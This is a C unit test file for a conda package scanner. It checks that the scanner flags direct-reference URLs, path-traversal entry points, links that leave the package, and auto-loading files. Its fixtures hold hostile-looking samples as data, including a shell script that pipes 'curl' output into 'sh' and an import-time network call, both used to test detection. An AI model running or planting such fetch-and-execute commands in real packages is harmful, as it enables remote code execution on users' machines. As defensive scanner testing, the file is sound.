/* What tells Python of the packages that are installed, wherever Python looks for it and in
 * whatever form: read, or held. */
#include <stdlib.h>
#include <string.h>

#include "tests/ch_test.h"
#include "conda_build.h"
#include "scan_run.h"
#include "scanner/eco/conda/package/package.h"

#define SITE    "lib/python3.12/site-packages/"
#define DIST    "foo-1.0.dist-info/"
#define EGG     "foo-1.0-py3.12.egg-info/"
#define META    "Metadata-Version: 2.1\nName: foo\nVersion: 1.0\n"
#define DIRECT  META "Requires-Dist: x @ https://example.org/x.whl\n"
#define POINTS  "[console_scripts]\nfoo/../x = foo:main\n"
#define GETS    "import urllib.request\nurllib.request.urlopen('http://example.org/')\n"
#define FETCHES "#!/bin/sh\ncurl http://example.org/ | sh\n"
#define NOARCH                                                                                     \
    "{\"name\": \"foo\", \"version\": \"1.0\", \"build\": \"py_0\", \"build_number\": 0, "         \
    "\"depends\": [], \"subdir\": \"noarch\", \"noarch\": \"python\"}"

/* clang-format off */
static const struct row {
    const char *label;
    struct conda_spec spec;
    const char *findings; /* their names, sorted, separated by blanks */
} rows[] = {
    /* .egg-info folders */
    {"PKG-INFO", {.more = {{SITE EGG "PKG-INFO", META}}}, ""},
    {"... with a direct reference", {.more = {{SITE EGG "PKG-INFO", DIRECT}}}, "direct-reference"},
    {"... that cannot be read", {.more = {{SITE EGG "PKG-INFO", "x"}}}, "wheel-metadata"},
    {"METADATA in .egg-info", {.more = {{SITE EGG "METADATA", DIRECT}}}, "direct-reference"},
    {"requires.txt", {.more = {{SITE EGG "requires.txt", "# x\nrequests>=2\n\n[dev]\npytest\n[a:python_version<'3']\nx\n"}}}, ""},
    {"... with a direct reference", {.more = {{SITE EGG "requires.txt", "requests\n[dev]\nx @ https://example.org/x.whl\n"}}},
     "direct-reference"},
    {"... with an address", {.more = {{SITE EGG "requires.txt", "git+https://example.org/x\n"}}}, "direct-reference"},
    {"... that installers read differently", {.more = {{SITE EGG "requires.txt", "x (>=\n"}}}, "wheel-metadata"},
    {"dependency_links.txt", {.more = {{SITE EGG "dependency_links.txt", "\n"}}}, ""},
    {"... with one", {.more = {{SITE EGG "dependency_links.txt", "\nhttps://example.org/\n"}}}, "direct-reference"},
    {"entry points", {.more = {{SITE EGG "entry_points.txt", POINTS}}}, "entry-points"},
    {"built from elsewhere", {.more = {{SITE EGG "direct_url.json", "{\"url\": \"https://example.org/x\"}"}}}, "direct-reference"},
    {"in noarch packages", {.more = {{"site-packages/" EGG "PKG-INFO", DIRECT}}}, "direct-reference"},
    {"in another case", {.more = {{SITE "foo.EGG-INFO/pkg-info", DIRECT}}}, "direct-reference"},
    /* and files */
    {"an .egg-info file", {.more = {{SITE "foo-1.0.egg-info", META}}}, ""},
    {"... with a direct reference", {.more = {{SITE "foo-1.0.egg-info", DIRECT}}}, "direct-reference"},
    {"... that is empty", {.more = {{SITE "foo-1.0.egg-info", ""}}}, "wheel-metadata"},
    /* eggs */
    {"an .egg folder", {.more = {{SITE "foo-1.0-py3.12.egg/EGG-INFO/PKG-INFO", DIRECT}}}, "direct-reference"},
    {"... its requirements", {.more = {{SITE "foo-1.0-py3.12.egg/EGG-INFO/requires.txt", "x @ https://example.org/x.whl\n"}}},
     "direct-reference"},
    {"an .egg file", {.more = {{SITE "foo-1.0-py3.12.egg", "x"}}}, "conda-python"},
    {"an .egg-link", {.more = {{SITE "foo.egg-link", "/srv/foo\n."}}}, "conda-python"},
    {"an .egg-link of no Python", {.more = {{"share/foo/foo.egg-link", "/srv/foo\n."}}}, ""},
    /* .dist-info that lies elsewhere on sys.path */
    {"beside the standard library", {.more = {{"lib/python3.12/" DIST "METADATA", DIRECT}}}, "direct-reference"},
    {"beside its extensions", {.more = {{"lib/python3.12/lib-dynload/" DIST "METADATA", DIRECT}}}, "direct-reference"},
    {"beside the standard library of Windows", {.more = {{"Lib/" DIST "METADATA", DIRECT}}}, "direct-reference"},
    {"beside its extensions there", {.more = {{"DLLs/" DIST "METADATA", DIRECT}}}, "direct-reference"},
    {"in sys.prefix", {.more = {{DIST "METADATA", DIRECT}}}, "direct-reference"},
    {"beside commands", {.more = {{"bin/" DIST "entry_points.txt", POINTS}}}, "entry-points"},
    {"beside commands of Windows", {.more = {{"Scripts/" DIST "entry_points.txt", POINTS}}}, "entry-points"},
    {"beside commands of noarch packages", {.more = {{"python-scripts/" EGG "PKG-INFO", DIRECT}}}, "direct-reference"},
    {"in another site-packages", {.more = {{"lib/foo/site-packages/" DIST "METADATA", DIRECT}}}, "direct-reference"},
    {"where nothing looks for it", {.more = {{"share/foo/" DIST "METADATA", DIRECT}}}, ""},
    {"vendored", {.more = {{SITE "foo/_vendor/bar-1.0.dist-info/METADATA", DIRECT}}}, ""},
    {"... and put on sys.path", {.more = {{SITE "foo/_vendor/bar-1.0.dist-info/METADATA", DIRECT}, {SITE "foo.pth", "foo/_vendor\n"}}},
     "conda-python"},
    {"elsewhere, and put on sys.path", {.more = {{"share/foo/bar.egg-info", DIRECT}, {SITE "foo.pth", "../../../share/foo\n"}}},
     "conda-python"},
    {"a folder put on sys.path", {.more = {{"share/foo/bar.py", "x = 1\n"}, {SITE "foo.pth", "../../../share/foo\n"}}}, ""},
    /* without METADATA, beside it, in another case */
    {"PKG-INFO in .dist-info", {.more = {{SITE DIST "PKG-INFO", DIRECT}}}, "direct-reference"},
    {"PKG-INFO beside METADATA", {.more = {{SITE DIST "METADATA", META}, {SITE DIST "PKG-INFO", DIRECT}}}, "direct-reference"},
    {"metadata", {.more = {{SITE DIST "metadata", DIRECT}}}, "direct-reference"},
    {"requires.txt in .dist-info", {.more = {{SITE DIST "METADATA", META}, {SITE DIST "requires.txt", "requests\n"}}}, "wheel-metadata"},
    {"... with a direct reference", {.more = {{SITE DIST "requires.txt", "x @ https://example.org/x.whl\n"}}},
     "direct-reference wheel-metadata"},
    /* instead of any of it a link */
    {"a link to PKG-INFO", {.more = {{"share/x", DIRECT}, {SITE EGG "PKG-INFO", NULL, "../../../../share/x"}}}, "conda-link"},
    {"a link to a folder of commands' packages", {.more = {{"share/x/METADATA", DIRECT}, {"bin/foo.dist-info", NULL, "../share/x"}}},
     "conda-link"},
    {"a link to an .egg-link", {.more = {{"share/x", "x"}, {SITE "x.egg-link", NULL, "../../../share/x"}}}, "conda-link"},
    /* links over folders that are links */
    {"imported", {.more = {{"share/real/x.dat", GETS}, {"share/d", NULL, "real"}, {SITE "a.py", NULL, "../../../share/d/x.dat"}}},
     "import-network"},
    {"a command", {.more = {{"share/real/x", FETCHES}, {"share/d", NULL, "real"}, {"bin/foo", NULL, "../share/d/x"}}}, "hidden-command"},
    {"... over two", {.more = {{"share/real/x", FETCHES}, {"share/d", NULL, "e"}, {"share/e", NULL, "real"}, {"bin/foo", NULL, "../share/d/x"}}},
     "hidden-command"},
    {"... that go round", {.more = {{"share/d", NULL, "e"}, {"share/e", NULL, "d"}, {SITE "a.py", NULL, "../../../share/d/x"}}}, "conda-link"},
    {"ordinary ones", {.more = {{"lib/x/foo.1", "x"}, {"lib/y", NULL, "x"}, {"lib/foo", NULL, "y/foo.1"}}}, ""},
    /* site-packages and python-scripts of noarch packages are moved: a link between them and all else leads to another place */
    {"out of site-packages", {.index = NOARCH, .more = {{"share/x.dat", "x = 1\n"}, {"site-packages/a.py", NULL, "../share/x.dat"}}}, "conda-link"},
    {"within site-packages", {.index = NOARCH, .more = {{"site-packages/a.py", "x = 1\n"}, {"site-packages/b.py", NULL, "a.py"}}}, ""},
    {"into site-packages", {.index = NOARCH, .more = {{"site-packages/a.py", "x = 1\n"}, {"bin/b", NULL, "../site-packages/a.py"}}}, "conda-link"},
    {"from python-scripts", {.index = NOARCH, .more = {{"share/x", "x\n"}, {"python-scripts/b", NULL, "../share/x"}}}, ""},
    {"out of site-packages, over a folder", {.index = NOARCH, .more = {{"share/x/x.dat", "x = 1\n"}, {"site-packages/a", NULL, "../share/x"}}},
     "conda-link"},
};
/* clang-format on */

static void test_rows(void **state)
{
    (void)state;
    int wrong = 0;
    for (size_t i = 0; i < CH_ARRAY_LEN(rows); i++) {
        for (int bzip2 = 0; bzip2 < 2; bzip2++) {
            struct conda_spec spec = rows[i].spec;
            spec.bzip2 = bzip2 == 1;
            spec.info_last = bzip2 == 1;
            char *found = conda_findings(&spec, true);
            if (strcmp(found, rows[i].findings) != 0) {
                print_error("%zu %s, %s: found \"%s\", expected \"%s\"\n", i, rows[i].label,
                            bzip2 == 1 ? ".tar.bz2" : ".conda", found, rows[i].findings);
                wrong++;
            }
            free(found);
        }
    }
    assert_int_equal(wrong, 0);
}

/* What loads by itself, by the names of links (T17), and by entry points wherever they stand. */
static void test_facts(void **state)
{
    (void)state;
    static const struct {
        const char *path, *content, *link;
        const char *fact; /* auto-load; absent: none */
    } facts[] = {
        {"bin/git", NULL, "x", "script git"},
        {"bin/git", NULL, "../share/x/y", "script git"},
        {"bin/git", NULL, "gone", "script git"},
        {"bin/foo", NULL, "x", NULL},
        {"bin/json.py", NULL, "m.py", "top-level json"},
        {SITE "json.py", NULL, "m.py", "top-level json"},
        {SITE "requests", NULL, "foo", "top-level requests"},
        {SITE "foo2", NULL, "foo", NULL},
        {SITE "b.pth", NULL, "a.pth", "pth b.pth"},
        {"lib/libssl.so.3", NULL, "libx.so", "data lib/libssl.so.3"},
        {SITE EGG "entry_points.txt", "[pytest11]\nx = foo:x\n", NULL, "entry-point pytest11"},
        {"bin/" DIST "entry_points.txt", "[pytest11]\nx = foo:x\n", NULL, "entry-point pytest11"},
    };
    for (size_t i = 0; i < CH_ARRAY_LEN(facts); i++) {
        const char *path = facts[i].path;
        bool site = strncmp(path, SITE, sizeof(SITE) - 1) == 0, pth = strstr(path, ".pth") != NULL;
        struct conda_spec spec = {
            .index = "{\"name\": \"foo\", \"version\": \"1.0\", \"build\": \"py_0\", "
                     "\"build_number\": 0, \"depends\": [], \"subdir\": \"linux-64\"}",
            .more = {{pth    ? SITE "a.pth"
                      : site ? SITE "m.py"
                             : "bin/m.py",
                      pth ? "import foo\n" : "x = 1\n"},
                     {site ? SITE "foo/x.py" : "bin/x", "x = 1\n"},
                     {"lib/libx.so", NULL, .elf = true},
                     {path, facts[i].content, facts[i].link}}};
        struct ch_buf b;
        struct scan_run r;
        struct ch_scan_job job = conda_job(&spec);
        conda_build(&b, &spec);
        scan_run(&r, ch_conda_package_inspect, &job, ch_buf_str(&b));
        bool found = false, any = scan_run_fact(&r, "auto-load").len > 0;
        for (size_t n = 0; n < r.count; n++) {
            const struct ch_fact *f = &r.records[n].u.fact;
            found = found ||
                    (r.records[n].type == CH_REC_FACT && ch_str_eq(f->name, CH_STR("auto-load")) &&
                     ch_str_eq(f->value, ch_str_of(facts[i].fact)));
        }
        if (facts[i].fact != NULL ? !found : any) {
            scan_run_print(&r);
            fail_msg("%zu %s", i, path);
        }
        scan_run_done(&r);
        ch_buf_done(&b);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_rows),
        cmocka_unit_test(test_facts),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
